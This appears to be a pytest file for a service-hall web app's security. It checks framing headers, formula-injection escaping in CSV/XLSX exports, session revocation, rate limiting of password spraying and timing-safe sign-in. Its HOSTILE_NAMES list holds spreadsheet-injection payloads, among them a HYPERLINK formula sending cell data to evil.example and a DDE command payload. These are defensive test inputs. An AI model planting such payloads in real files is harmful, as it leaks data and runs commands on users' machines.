"""Web and account security: no page can be framed or content-sniffed, report exports keep
text as text, a new password or a disabled account ends the old sessions, and signing in
neither lets one address spray passwords over many names nor tells known names by timing."""

from __future__ import annotations

import csv
import io
import re
import statistics
import time

import pytest
from openpyxl import load_workbook

from server import accounts
from tests.supervision.test_api import Client, a_working_morning, app, login  # noqa: F401 (fixture)

#: known and unknown names tried in turn for the timing comparison
PAIRS = 15
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+2", "-2+3", "@SUM(A1:A9)",
                 "＝1+1", "\t=1", "=cmd|' /C calc'!A0"]


def get_routes(app) -> list[str]:
    """Every GET route of the app, its parameters filled with something that exists or not."""
    values = {"number": "3", "id": "1", "token": "x" * 43, "code": "A01", "section": "hall",
              "filename": "clerk.js", "username": "boss", "name": "kiosk-1"}
    paths = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        paths.append(re.sub(r"<(?:\w+:)?(\w+)>", lambda m: values.get(m.group(1), "x"), rule.rule))
    return paths + ["/static/pages/clerk.js", "/no-such-page"]


def test_no_response_can_be_framed_or_sniffed(app) -> None:  # noqa: F811
    boss = login(app, "boss")
    paths = get_routes(app)
    assert {"/clerk", "/admin", "/supervisor", "/reports", "/desk", "/window/3"} <= set(paths)
    for path in paths:
        for token in (None, boss.token):
            headers = {"Authorization": f"Bearer {token}"} if token else {}
            response = app.test_client().get(path, headers=headers)
            assert response.headers.get("X-Frame-Options") == "DENY", path
            assert response.headers.get("X-Content-Type-Options") == "nosniff", path
            assert "frame-ancestors 'none'" in response.headers.get("Content-Security-Policy", ""), path
            response.close()


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_exports_keep_a_formula_looking_name_as_text(app, name) -> None:  # noqa: F811
    accounts.update_user(app.hall.database, "clerk4", "clerk", name, "G4")
    a_working_morning(app)
    boss = login(app, "boss")
    text = boss.get("/reports/export.csv?from=2026-11-26&by=clerk").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [value for row in rows for value in row]
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "＝")) for value in cells), cells
    assert any(value.startswith("'") and name.strip() in value for value in cells)
    book = load_workbook(io.BytesIO(boss.get("/reports/export.xlsx?from=2026-11-26&by=clerk").data))
    for sheet in book:
        for row in sheet.iter_rows():
            assert not any(c.data_type == "f" for c in row), [c.value for c in row]
    clerks = [c.value for c in book["报表 Report"]["A"]]
    assert any(isinstance(v, str) and name.strip() in v for v in clerks)


def test_xlsx_shows_rates_as_percentages_and_columns_wide_enough(app) -> None:  # noqa: F811
    a_working_morning(app)
    book = load_workbook(io.BytesIO(login(app, "boss").get("/reports/export.xlsx?from=2026-11-26&by=clerk").data))
    sheet = book["报表 Report"]
    header = [c.value for c in sheet[2]]
    satisfaction = header.index("满意率 Satisfaction") + 1
    row = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "clerk4-名 (G4)")
    assert row[satisfaction - 1].value == 0.5 and row[satisfaction - 1].number_format == "0.0%"
    waits = header.index("平均等候(分钟) Mean wait (min)")
    assert row[waits].number_format == "0.0"
    for letter in "BCDEFGHIJKLMNOPQ":
        assert sheet.column_dimensions[letter].width >= 12, letter
    rates = book["三率 Three rates"]
    assert all(r[1].number_format == "0.0%" for r in rates.iter_rows(min_row=2))


def test_a_new_password_and_a_disabled_account_end_the_old_sessions(app) -> None:  # noqa: F811
    root = login(app, "root")
    old = login(app, "clerk4")
    assert old.get("/me").status_code == 200
    assert root.post("/admin/staff/clerk4/password", {"password": "another-pass-1"})["ok"]
    assert old.get("/me").status_code == 401, "the session opened with the old password ended"
    reply = app.test_client().post("/api/v1/auth/login",
                                   json={"username": "clerk4", "password": "another-pass-1"})
    again = Client(app, reply.get_json()["token"])
    assert again.get("/me").status_code == 200
    assert root.request("PUT", "/admin/staff/clerk4/disabled", {"disabled": True}).status_code == 200
    assert root.request("PUT", "/admin/staff/clerk4/disabled", {"disabled": False}).status_code == 200
    assert again.get("/me").status_code == 401, "enabling the account again does not revive its sessions"


def sign_in(app, username: str, password: str, address: str = "203.0.113.9"):
    return app.test_client().post("/api/v1/auth/login", json={"username": username, "password": password},
                                  environ_base={"REMOTE_ADDR": address})


def test_one_address_spraying_a_password_over_many_names_is_slowed(app) -> None:  # noqa: F811
    statuses = [sign_in(app, f"name{i:03d}", "Summer2026!").status_code for i in range(40)]
    assert statuses[0] == 401 and 429 in statuses
    refused = sign_in(app, "boss", "password-1")
    assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1
    assert sign_in(app, "boss", "password-1", address="198.51.100.7").status_code == 200, \
        "another address is not held back"


def test_an_unknown_name_answers_as_fast_as_a_known_one(app) -> None:  # noqa: F811
    """What tells names apart is the work a sign-in does (one scrypt for a known name and for an
    unknown one alike), so the work is what is measured: the CPU time of this thread, where the
    test client runs the whole request. Wall time would add whatever else the machine is doing."""
    hall = app.hall
    for i in range(PAIRS):
        accounts.add_user(hall.database, hall.service.hall_id, f"known{i}", "clerk", "password-1", "x", None)
    sign_in(app, "warm-up", "x", address="198.51.100.1")
    known, unknown = [], []
    for i in range(PAIRS):   # pairs, each from an address of its own, now one first, now the other
        pair = [(f"known{i}", known), (f"nobody{i}", unknown)]
        for names, times in pair if i % 2 else pair[::-1]:
            started = time.thread_time()
            assert sign_in(app, names, "wrong-password", address=f"198.51.100.{10 + i}").status_code == 401
            times.append(time.thread_time() - started)
    assert statistics.median(unknown) < statistics.median(known) * 1.5, (known, unknown)
    assert statistics.median(known) < statistics.median(unknown) * 1.5, (known, unknown)
